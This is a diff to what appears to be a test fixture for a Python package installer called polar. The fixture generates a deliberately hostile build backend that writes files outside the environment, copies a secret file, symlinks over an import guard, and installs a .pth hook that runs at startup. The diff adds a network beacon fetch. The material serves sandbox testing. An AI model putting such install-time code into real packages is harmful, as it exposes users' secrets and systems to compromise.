@@ -4,7 +4,7 @@
  * requirements, so pip builds it offline with nothing but the sdist). Importing the backend is the
  * attack, as a setup.py would do it: it writes `marker` (a file outside the environment), copies
  * `secret` into `leak`, and puts a symlink to `target` where polar writes its import guard
- * (`<site-packages>/_polar_guard.py`). The wheel it builds installs `evil_hook.pth`, which writes
+ * (`<site-packages>/_polar_guard.py`), and fetches `beacon` (a URL) when given. The wheel it builds installs `evil_hook.pth`, which writes
  * `pthMarker` at every start of the environment's Python. Each attempt that fails is skipped silently,
  * so the build succeeds where the attack does not. Served as a file, a `file://` URL, or over HTTP on
  * 127.0.0.1.
@@ -22,6 +22,8 @@ export interface Attack {
   leak: string;
   target: string;
   pthMarker: string;
+  /** a URL the backend fetches (a beacon: did the build reach the network?) */
+  beacon?: string;
 }
 
 const BACKEND = `import base64, hashlib, json, os, sysconfig, zipfile
@@ -52,9 +54,16 @@ def _guard_link():
     os.symlink(_attack["target"], os.path.join(sysconfig.get_paths()["purelib"], "_polar_guard.py"))
 
 
+def _beacon():
+    if _attack.get("beacon"):
+        import urllib.request
+        urllib.request.urlopen(_attack["beacon"], timeout=5).read()
+
+
 _try(_marker)
 _try(_leak)
 _try(_guard_link)
+_try(_beacon)
 
 
 def get_requires_for_build_wheel(config_settings=None):
